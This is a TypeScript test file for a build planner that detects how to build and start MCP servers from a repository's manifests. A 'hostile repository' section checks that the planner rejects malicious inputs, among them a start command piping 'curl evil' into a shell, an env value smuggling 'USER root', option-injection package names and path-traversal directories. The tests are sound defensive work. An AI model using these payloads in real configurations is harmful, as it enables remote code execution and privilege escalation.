import { AppError } from '@moorage/domain/error'
import { describe, expect, test } from 'vitest'
import { planBuild } from './detect.ts'
import { portPlaceholder } from './fill-command.ts'
import type { BuildPlan } from './plan.ts'
import type { Settings } from './settings.ts'
import { sourceTreeFrom } from './source-tree.ts'

const server = 'from fastmcp import FastMCP\nmcp = FastMCP("x")\n'
const python = { 'requirements.txt': 'fastmcp\n', 'server.py': server }
const config = JSON.stringify({ source: { path: 'server.py' } })

describe('precedence', () => {
  test.each([
    [
      'fastmcp.json before Dockerfile',
      { ...python, 'fastmcp.json': config, Dockerfile: 'FROM x' },
      'Python FastMCP',
    ],
    ['Dockerfile before a manifest', { ...python, Dockerfile: 'FROM x' }, 'Dockerfile'],
    [
      'moorage.json before all',
      {
        ...python,
        'fastmcp.json': config,
        'moorage.json': '{"dockerfile":"build/Own"}',
        'build/Own': 'FROM x',
      },
      'Dockerfile',
    ],
  ])('%s', (_name, files, flavor) => {
    expect(plan(files).flavor).toBe(flavor)
  })

  test('the settings of the dashboard come before moorage.json', () => {
    const files = { ...python, 'moorage.json': '{"port":9000,"path":"/a"}' }
    const found = plan(files, { overrides: { port: 9001 } })
    expect([found.port, found.path]).toEqual([9001, '/a'])
  })

  test('an override that is undefined settles nothing', () => {
    const overrides = { port: undefined } as unknown as Settings
    expect(plan({ ...python, 'moorage.json': '{"port":9000}' }, { overrides }).port).toBe(9000)
  })
})

describe('root directory', () => {
  const files = {
    'README.md': '',
    'apps/a/requirements.txt': 'fastmcp',
    'apps/a/server.py': server,
  }

  test('moorage.json at the root can name it', () => {
    const found = plan({ ...files, 'moorage.json': '{"rootDir":"./apps/a/"}' })
    expect(found.rootDir).toBe('apps/a')
    expect(found.install.copy).toEqual(['requirements.txt'])
  })

  test('a root moorage.json that speaks of another directory is not applied', () => {
    const found = plan({ ...files, 'moorage.json': '{"port":9000}' }, { rootDir: 'apps/a' })
    expect(found.port).toBe(8000)
  })

  test('a directory with a manifest further down is named in the hint', () => {
    expect(failure(files)).toMatchObject({ hint: expect.stringContaining('apps/a') })
  })

  test.each(['../x', '/etc', 'apps/../../x', '-x'])('%s is refused', (rootDir) => {
    expect(failure(files, { rootDir }).code).toBe('plan_failed')
  })
})

test('says what was looked for where there is no server', () => {
  expect(failure({ 'README.md': '# Hi' }).userMessage).toMatch(/requirements\.txt.*package\.json/)
  expect(failure({}).userMessage).toBe('The repository is empty.')
})

test('settings replace what was found, and say so', () => {
  const found = plan({
    ...python,
    'moorage.json': JSON.stringify({
      start: `python3 server.py --port ${portPlaceholder}`,
      path: '/sse',
      transport: 'sse',
      python: '3.13',
      packages: ['libpq5'],
      env: { LOG_LEVEL: 'debug' },
      callerSecrets: [{ name: 'token', header: 'X-Token' }],
    }),
  })
  expect(found).toMatchObject({
    base: { language: 'python', version: '3.13' },
    path: '/sse',
    transport: 'sse',
    packages: ['libpq5'],
    callerSecrets: [{ name: 'token', header: 'X-Token' }],
    start: {
      command: ['.venv/bin/python', 'server.py', '--port', portPlaceholder],
      env: { LOG_LEVEL: 'debug' },
    },
  })
  expect(found.reasons.map((reason) => reason.choice)).toContain('Start command')
})

test('a server on stdio, which sees no headers, asks nothing of its callers', () => {
  const asking = { transport: 'stdio', callerSecrets: [{ name: 'token', header: 'X-Token' }] }
  expect(failure({ ...python, 'moorage.json': JSON.stringify(asking) }).userMessage).toBe(
    'A server on stdio cannot ask its callers for secrets.',
  )
})

describe('a hostile repository gets a clear error', () => {
  const deep = '['.repeat(100_000)
  test.each<[string, Record<string, string>]>([
    [
      'a start command of 1 MB',
      { ...python, 'moorage.json': JSON.stringify({ start: ['x'.repeat(2 ** 20)] }) },
    ],
    [
      'a start command of 1,000 words',
      { ...python, 'moorage.json': JSON.stringify({ start: Array(1000).fill('x') }) },
    ],
    [
      'a start line for a shell',
      { ...python, 'moorage.json': '{"start":"node x; curl evil | sh"}' },
    ],
    ['an unknown field', { ...python, 'moorage.json': '{"privileged":true}' }],
    ['a package that is an option', { ...python, 'moorage.json': '{"packages":["-o=x"]}' }],
    [
      'an env value with a line break',
      { ...python, 'moorage.json': '{"env":{"A":"x\\nUSER root"}}' },
    ],
    ['an env of PORT', { ...python, 'moorage.json': '{"env":{"PORT":"1"}}' }],
    ['a path with a query', { ...python, 'moorage.json': '{"path":"/mcp?x"}' }],
    ['a rootDir outside', { ...python, 'moorage.json': '{"rootDir":"../.."}' }],
    ['two kinds at once', { 'moorage.json': '{"image":"a:1","dockerfile":"Dockerfile"}' }],
    ['a Dockerfile outside', { ...python, 'moorage.json': '{"dockerfile":"../Dockerfile"}' }],
    ['a Dockerfile that is not there', { ...python, 'moorage.json': '{"dockerfile":"Nope"}' }],
    ['a moorage.json that is not JSON', { ...python, 'moorage.json': '{' }],
    ['a deep moorage.json', { ...python, 'moorage.json': deep }],
    ['a deep package.json', { 'package.json': deep }],
    ['a deep pyproject.toml', { 'pyproject.toml': `x = ${deep}` }],
    ['a broken pyproject.toml', { 'pyproject.toml': '[project' }],
    ['a package.json of the wrong shape', { 'package.json': '{"scripts":{"start":5}}' }],
    ['a fastmcp.json outside', { ...python, 'fastmcp.json': '{"source":{"path":"../server.py"}}' }],
    ['a fastmcp.json to nowhere', { ...python, 'fastmcp.json': '{"source":{"path":"nope.py"}}' }],
    [
      'a fastmcp.json with an option for a requirement',
      {
        ...python,
        'fastmcp.json':
          '{"source":{"path":"server.py"},"environment":{"dependencies":["--index-url=x"]}}',
      },
    ],
    [
      'an absurd version range',
      {
        ...python,
        'pyproject.toml': `[project]\nrequires-python = "${'>=3.1,'.repeat(99)}"\ndependencies = ["fastmcp"]`,
      },
    ],
    [
      'a version nobody has',
      {
        'pyproject.toml': '[project]\nrequires-python = ">=4"\ndependencies = ["fastmcp"]',
        'server.py': server,
      },
    ],
  ])('%s', (_name, files) => {
    const error = failure(files)
    expect(error.code).toBe('plan_failed')
    expect(error.hint).not.toBeNull()
    expect(error.userMessage.length).toBeLessThan(600)
  })

  test('a manifest over 1 MiB, which the tree does not read', () => {
    for (const file of ['moorage.json', 'package.json', 'pyproject.toml', 'fastmcp.json']) {
      const tree = { files: [file], read: () => null }
      expect(() => planBuild(tree)).toThrow(AppError)
    }
  })

  test('a source made to be slow to search', () => {
    const start = performance.now()
    const slow = `${'a'.repeat(80)} = ${'a.'.repeat(200_000)}\n`.repeat(2)
    expect(failure({ 'requirements.txt': 'fastmcp', 'server.py': slow }).code).toBe('plan_failed')
    expect(performance.now() - start).toBeLessThan(1000)
  })
})

function plan(
  files: Record<string, string>,
  options: Parameters<typeof planBuild>[1] = {},
): BuildPlan {
  return planBuild(sourceTreeFrom(files), options)
}

function failure(
  files: Record<string, string>,
  options: Parameters<typeof planBuild>[1] = {},
): AppError {
  try {
    planBuild(sourceTreeFrom(files), options)
  } catch (error) {
    if (error instanceof AppError) return error
    throw error
  }
  throw new Error('planned, and should not have been')
}

test('a Dockerfile is passed over where nothing can build it and something else fits', () => {
  const requirements = 'fastmcp==2.0.0\n'
  const server = 'from fastmcp import FastMCP\nmcp = FastMCP("x")\n'
  const both = sourceTreeFrom({
    Dockerfile: 'FROM scratch\n',
    'requirements.txt': requirements,
    'server.py': server,
  })
  expect(planBuild(both).kind).toBe('dockerfile')
  expect(planBuild(both, { dockerfiles: false }).kind).toBe('python')
  const overrides = { dockerfile: 'Dockerfile' }
  expect(planBuild(both, { dockerfiles: false, overrides }).kind).toBe('dockerfile')
  const alone = sourceTreeFrom({ Dockerfile: 'FROM scratch\n' })
  expect(planBuild(alone, { dockerfiles: false }).kind).toBe('dockerfile')
})

test('a Dockerfile is left aside where the settings say so, by whatever file it is named', () => {
  const files = {
    Dockerfile: 'FROM scratch\n',
    'moorage.json': '{"dockerfile":false}',
    'smithery.yaml': 'runtime: container\nbuild: { dockerfile: Dockerfile }\n',
    'requirements.txt': 'fastmcp==2.0.0\n',
    'server.py': 'from fastmcp import FastMCP\nmcp = FastMCP("x")\n',
  }
  const plan = planBuild(sourceTreeFrom(files))
  expect(plan.kind).toBe('python')
  expect(plan.reasons[0]).toMatchObject({ choice: 'Dockerfile', value: 'not used' })
  const overrides = { dockerfile: 'Dockerfile' }
  expect(planBuild(sourceTreeFrom(files), { overrides }).kind).toBe('dockerfile')
  const { 'requirements.txt': _, 'server.py': __, ...alone } = files
  expect(() => planBuild(sourceTreeFrom(alone))).toThrow(/No MCP server was found/)
})
